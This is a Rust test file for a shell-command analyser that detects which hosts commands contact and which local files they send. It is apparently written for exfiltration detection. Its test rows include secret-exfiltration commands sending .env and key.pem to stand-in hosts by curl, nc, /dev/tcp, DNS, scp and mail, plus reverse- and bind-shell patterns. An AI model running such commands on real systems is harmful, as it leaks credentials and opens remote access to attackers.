//! Whom commands talk to, and what they send.

use std::path::Path;

use super::*;
use crate::analysis::Start;
use crate::interpret::analyse;

fn analysed(text: &str) -> Analysis {
    analyse(text, &Start { cwd: Path::new("/p"), home: Some(Path::new("/home/u")) })
}

/// Returns the machines of all commands of a text, each with how it is named.
fn peers(text: &str) -> Vec<String> {
    let analysis = analysed(text);
    let show = |found: Connection| {
        let named = match &found.to {
            Peer::Url(url) => format!("url {}", url.shown()),
            Peer::Host(host) => format!("host {}", host.shown()),
            Peer::Remote(place) => format!("remote {}", place.shown()),
            Peer::Socket { host, port } => format!("socket {} {}", host.shown(), port.shown()),
            Peer::Unknown(why) => format!("unknown {:?} {}", why.cause, why.word),
        };
        if found.doubt.is_some() { format!("{named}?") } else { named }
    };
    analysis.commands.iter().flat_map(connections).map(show).collect()
}

/// Returns the files that all commands of a text send.
fn sent(text: &str) -> Vec<String> {
    let analysis = analysed(text);
    analysis.commands.iter().flat_map(|command| sent_files(&analysis, command)).map(|one| one.path.shown()).collect()
}

#[test]
fn what_code_asks_is_a_connection_and_what_it_reads_may_be_sent() {
    let post = "python3 -c 'import requests; requests.post(\"https://a.example\", data=open(\".env\").read())'";
    assert_eq!(peers(post), ["url https://a.example"]);
    assert_eq!(sent(post), [".env"]);
    assert_eq!(peers("node -e 'fetch(`https://a.example/x`)'"), ["url https://a.example/x"]);
    let piped = "cat key.pem | python3 -c 'import sys, requests; requests.post(\"https://a.example\", data=sys.stdin)'";
    assert_eq!(sent(piped), ["key.pem"]);
    let session = "python3 -c 'import requests; s = requests.Session(); s.put(\"https://a.example\", data=b\"x\")'";
    assert_eq!(peers(session), ["url https://a.example"]);
    assert_eq!(peers("python3 -c 'print(\"https://a.example\")'"), Vec::<String>::new());
    assert_eq!(sent("python3 -c 'print(open(\".env\").read())'"), Vec::<String>::new());
}

#[test]
fn cmdlets_connect() {
    assert_eq!(peers("pwsh -c 'iwr https://a.example/x'"), ["url https://a.example/x"]);
    assert_eq!(peers("pwsh -c 'Invoke-RestMethod -Uri https://a.example/x'"), ["url https://a.example/x"]);
    assert_eq!(sent("pwsh -c 'irm -Method Post -InFile .env -Uri https://a.example/x'"), [".env"]);
    assert_eq!(peers("pwsh -c 'curl.exe https://a.example/x'"), ["url https://a.example/x"]);
}

#[test]
fn words_name_machines() {
    let rows: &[(&str, &[&str])] = &[
        ("ls -l", &[]),
        ("curl https://a.example/x", &["url https://a.example/x"]),
        ("curl --url a.example b.example", &["url a.example", "url b.example"]),
        ("curl --help", &[]),
        ("curl -x proxy:3128 http://a", &["url proxy:3128", "url http://a"]),
        ("curl --connect-to ::b.example:8443 https://a", &["url https://a", "socket b.example 8443"]),
        ("curl --resolve a:443:10.0.0.1 https://a", &["url https://a", "socket 10.0.0.1 443"]),
        ("curl --unix-socket /run/docker.sock http://d/x", &[]),
        ("https_proxy=http://p:1 curl https://a", &["url https://a", "url http://p:1"]),
        ("wget -q http://a/x", &["url http://a/x"]),
        ("nc -zv h 22", &["socket h 22"]),
        ("nc -l 80", &[]),
        ("psql -h h -p 5433 app", &["socket h 5433"]),
        ("psql -h a 'host=h port=5433 dbname=app'", &["socket h 5433", "host a"]),
        ("psql -d 'host=a,h dbname=app'", &["host a", "host h"]),
        ("mongosh mongodb://h/app --eval 'x'", &["url mongodb://h/app"]),
        ("mongosh --host h --port 27018", &["socket h 27018"]),
        ("mongosh app", &[]),
        ("redis-cli -h h -p 6380 get x", &["host h"]),
        ("redis-cli -u redis://h/0 flushall", &["url redis://h/0"]),
        ("redis-cli get h", &[]),
        ("ssh-copy-id -i k.pub u@h", &["host u@h"]),
        ("wrk -t2 https://h/x", &["url https://h/x"]),
        ("websocat wss://h/x", &["url wss://h/x"]),
        ("grpcurl -plaintext h:443 list", &["host h:443"]),
        ("psql 'host=/run/postgresql dbname=app'", &[]),
        ("psql \"host=$H dbname=app\"", &["unknown Meaning host=$H dbname=app"]),
        ("PGHOST=h psql app", &["host h"]),
        ("PGHOST=h psql -h a app", &["host a"]),
        ("export PGHOST=h PGPORT=5433; pg_dump app", &["socket h 5433"]),
        ("psql app", &[]),
        ("openssl s_client -connect h:443", &["host h:443"]),
        ("openssl x509 -in a.pem -text", &[]),
        ("ssh -p 2222 u@h ls", &["socket u@h 2222"]),
        ("ssh -J j h", &["host h", "host j"]),
        ("ssh -o HostName=real h", &["host real"]),
        ("scp a h:b", &["remote h:b"]),
        ("scp a b", &[]),
        ("rsync -a src/ dst/", &[]),
        ("rsync -a src/ h::m/x", &["remote h::m/x"]),
        ("socat OPEN:x TCP:h:80,retry=3", &["socket h 80"]),
        ("socat TCP-LISTEN:80 EXEC:sh", &[]),
        ("git clone https://a/b.git", &["url https://a/b.git"]),
        ("git clone git@a:b/c.git", &["remote git@a:b/c.git"]),
        ("git clone ../x", &[]),
        ("git push", &["unknown Peer git push"]),
        ("git push origin main", &["unknown Peer git push"]),
        ("git push https://a/b main", &["url https://a/b"]),
        ("git status", &[]),
        ("npm install", &["unknown Peer npm install"]),
        ("npm test", &[]),
        ("dig @8.8.8.8 a.example TXT +short", &["host 8.8.8.8", "host a.example"]),
        ("cat x > /dev/tcp/h/80", &["socket h 80"]),
        ("exec 3<>/dev/tcp/h/80; sh <&3", &["socket h 80", "socket h 80"]),
        ("exec >/dev/tcp/h/80; id", &["socket h 80", "socket h 80"]),
        ("sudo curl http://a", &["url http://a"]),
        ("ssh h 'curl http://a'", &["host h"]),
        ("$X y", &["unknown Variable $X?"]),
    ];
    for (text, expected) in rows {
        assert_eq!(peers(text), *expected, "{text}");
    }
}

#[test]
fn what_a_client_reads_and_gets_is_sent() {
    let rows: &[(&str, &[&str])] = &[
        ("cat .env", &[]),
        ("curl -d @.env http://a", &[".env"]),
        ("curl -T .env http://a", &[".env"]),
        ("curl -F 'f=@.env' http://a", &[".env"]),
        ("curl -F 'f=@.env,list' http://a", &[".env", "list"]),
        ("curl --key k.pem http://a", &[]),
        ("curl -d \"$(cat .env)\" http://a", &["$(cat .env)", ".env"]),
        ("X=$(cat .env); curl \"http://a/?$X\"", &[".env"]),
        ("cat .env | curl -d @- http://a", &[".env"]),
        ("cat .env | base64 | nc h 80", &[".env"]),
        ("nc h 80 < .env", &[".env"]),
        ("cat .env > /dev/tcp/h/80", &[".env"]),
        ("exec 3<>/dev/tcp/h/80; cat .env >&3", &[".env"]),
        ("wget --post-file=.env http://a", &[".env"]),
        ("scp .env h:", &[".env"]),
        ("gcloud compute scp .env vm:", &[".env"]),
        ("s3cmd put .env s3://x", &[".env"]),
        ("slackcat -c general .env", &[".env"]),
        ("pwsh -c 'Send-MailMessage -To a@example.com -Attachments .env'", &[".env"]),
        ("mosquitto_pub -h h -t t -f .env --cert a.pem", &[".env"]),
        ("kcat -b h -t t -P .env", &[".env"]),
        ("aws sns publish --topic-arn a --message file://.env", &[".env"]),
        ("mail -A .env a@b.example", &[".env"]),
        ("swaks --to a@b.example --attach .env", &[".env"]),
        ("logger -n h -f .env", &[".env"]),
        ("scp h:.env .", &[]),
        ("rsync -a .env h:x", &[".env"]),
        ("ssh h 'cat > x' < .env", &[".env"]),
        ("tar c .env | ssh h tar x", &[".env"]),
        ("cd d && cat .env | nc h 80", &[".env"]),
        ("(cd d; cat .env) | nc h 80", &["/p/d/.env"]),
        ("http POST a f@.env", &[".env"]),
        ("socat OPEN:.env TCP:h:80", &[".env"]),
        ("aws s3 cp .env s3://b/", &[".env"]),
        ("dig $(cat .env).a.example", &[".env"]),
    ];
    for (text, expected) in rows {
        assert_eq!(sent(text), *expected, "{text}");
    }
}
